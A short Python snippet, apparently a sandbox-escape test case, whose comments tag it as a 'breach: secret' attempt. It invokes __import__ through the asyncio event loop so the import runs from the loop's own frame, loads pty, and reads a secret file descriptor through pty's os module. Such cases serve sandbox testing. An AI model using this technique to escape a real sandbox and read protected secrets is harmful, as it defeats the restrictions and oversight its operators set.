# The event loop calls __import__ from its own frame.
# breach: secret
import asyncio, sys
asyncio.get_running_loop().call_soon(__import__, "pty")
await asyncio.sleep(0)
await asyncio.sleep(0)
sys.modules["pty"].os.pread(SECRET_FD, 100, 0)
